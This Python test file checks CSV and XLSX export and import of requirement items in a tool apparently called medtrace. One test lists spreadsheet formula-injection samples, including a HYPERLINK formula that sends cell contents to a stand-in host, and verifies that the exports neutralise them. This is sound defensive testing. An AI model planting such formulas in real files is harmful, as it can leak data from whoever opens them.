"""Tables: export a kind to CSV or XLSX and import it back, unchanged."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from medtrace.api import load_project
from medtrace.api.migrate import export_table, import_table
from medtrace.errors import MedtraceError
from medtrace.interchange.items import NewItem, render_item
from medtrace.model import Item

KIND = "software-requirement"
ALPHABET = "abcXYZ019 ,;:'\"=#&*!?()[]{}/.-_äé€"
WORD = st.text(ALPHABET, min_size=1, max_size=12).map(str.strip).filter(bool)
LINE = WORD
BODY = st.lists(st.text(ALPHABET, max_size=20), max_size=4).map("\n".join)
CATEGORIES = ("functional", "performance", "interface", "alarm")


@st.composite
def requirements(draw: st.DrawFn) -> list[NewItem]:
    numbers = draw(st.lists(st.integers(1, 999), min_size=1, max_size=6, unique=True))
    ids = [f"SRS-{n}" for n in numbers]
    items = []
    for item_id in ids:
        fields: list[tuple[str, object]] = []
        if draw(st.booleans()):
            fields.append(("status", draw(st.sampled_from(("draft", "approved")))))
        if draw(st.booleans()):
            fields.append(("tags", draw(st.lists(WORD, min_size=1, max_size=3, unique=True))))
        if draw(st.booleans()):
            fields.append(("owner", draw(LINE)))
        if draw(st.booleans()):
            fields.append(("category", draw(st.sampled_from(CATEGORIES))))
        if draw(st.booleans()):
            fields.append(("rationale", draw(BODY.map(str.strip).filter(bool))))
        others = [i for i in ids if i != item_id]
        targets = draw(st.lists(st.sampled_from(others), unique=True, max_size=2)) if others else []
        links = (("derived-from", tuple(targets)),) if targets else ()
        items.append(
            NewItem(
                id=item_id,
                kind=KIND,
                title=draw(LINE),
                body=draw(BODY),
                fields=tuple(fields),
                links=links,
            )
        )
    return items


def _project(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "medtrace.toml").write_text('[project]\nname = "T"\n', "utf-8")
    return root


def _shape(item: Item) -> tuple[object, ...]:
    links = tuple((link.role, link.target) for link in item.links)
    return (item.id, item.kind, item.title, item.body.strip(), item.fields, links)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(items=requirements(), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_export_then_import_gives_the_same_items(items: list[NewItem], suffix: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        source = _project(Path(folder) / "a")
        for item in items:
            path = source / "items" / f"{item.id}.md"
            path.parent.mkdir(exist_ok=True)
            path.write_text(render_item(item), "utf-8")
        table = Path(folder) / f"table{suffix}"
        assert export_table(source, KIND, table) == len(items)
        target = _project(Path(folder) / "b")
        report = import_table(target, KIND, table)
        assert len(report.created) == len(items)
        before = sorted(map(_shape, load_project(source).items))
        after = sorted(map(_shape, load_project(target).items))
        assert after == before


def test_import_maps_headers_skips_existing_and_rejects_unknown(project: Path) -> None:
    table = project.parent / "in.csv"
    table.write_text("Req,Name,Why\nSRS-1,First,Because\nSRS-2,Second,\n", "utf-8")
    mapping = {"Req": "id", "Name": "title", "Why": "rationale"}
    report = import_table(project, KIND, table, mapping)
    assert [c.id for c in report.created] == ["SRS-1", "SRS-2"]
    again = import_table(project, KIND, table, mapping)
    assert (again.created, again.skipped) == ((), ("SRS-1", "SRS-2"))
    items = {item.id: item for item in load_project(project).items}
    assert items["SRS-1"].field("rationale") == "Because"
    with pytest.raises(MedtraceError, match="'Why'"):
        import_table(project, KIND, table, {"Req": "id", "Name": "title"})


def test_a_bad_value_writes_nothing(project: Path) -> None:
    table = project.parent / "in.csv"
    table.write_text("id,title,status\nSRS-1,A,draft\nSRS-2,B,done\n", "utf-8")
    with pytest.raises(MedtraceError, match="row 3, status"):
        import_table(project, KIND, table)
    assert load_project(project).items == ()


def _item_file(root: Path, item_id: str, title: str, body: str = "Text.") -> None:
    path = root / "items" / f"{item_id}.md"
    path.parent.mkdir(exist_ok=True)
    item = NewItem(id=item_id, kind=KIND, title=title, body=body)
    path.write_text(render_item(item), "utf-8")


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1)", "'=quoted"]


def test_a_csv_export_never_holds_a_formula_cell_and_imports_back(tmp_path: Path) -> None:
    source = _project(tmp_path / "a")
    for number, title in enumerate(FORMULAS, start=1):
        _item_file(source, f"SRS-{number}", title, body=title)
    table = tmp_path / "table.csv"
    export_table(source, KIND, table)
    import csv

    with table.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    target = _project(tmp_path / "b")
    import_table(target, KIND, table)
    titles = {item.id: item.title for item in load_project(target).items}
    assert titles == {f"SRS-{n}": title for n, title in enumerate(FORMULAS, start=1)}


def test_an_xlsx_export_of_titles_with_control_characters_is_written(tmp_path: Path) -> None:
    source = _project(tmp_path / "a")
    _item_file(source, "SRS-1", "Alarm\x07 bell", body="Line\x1bone")
    table = tmp_path / "table.xlsx"
    assert export_table(source, KIND, table) == 1
    target = _project(tmp_path / "b")
    import_table(target, KIND, table)
    (item,) = load_project(target).items
    assert item.title == "Alarm bell"


def test_a_workbook_with_broken_properties_is_one_line(tmp_path: Path) -> None:
    """openpyxl words this error over three lines; the tool's answer is one (found by
    tests/test_fuzz.py: a local header whose name is not the UTF-8 it says)."""
    from openpyxl import Workbook

    from medtrace.interchange.tables.read import read_table

    path = tmp_path / "broken.xlsx"
    Workbook().save(path)
    data = bytearray(path.read_bytes())
    header = data.index(b"PK\x03\x04" + bytes(data[4:6]))  # the first local header
    while data[header + 30 : header + 47] != b"docProps/core.xml":
        header = data.index(b"PK\x03\x04", header + 4)
    data[header + 7] |= 0x08  # flag bit 11: the name is UTF-8
    data[header + 31] = 0x93  # ... which it is not
    path.write_bytes(bytes(data))
    with pytest.raises(MedtraceError) as raised:
        read_table(path)
    assert "not an XLSX workbook" in str(raised.value)
    assert "\n" not in str(raised.value)
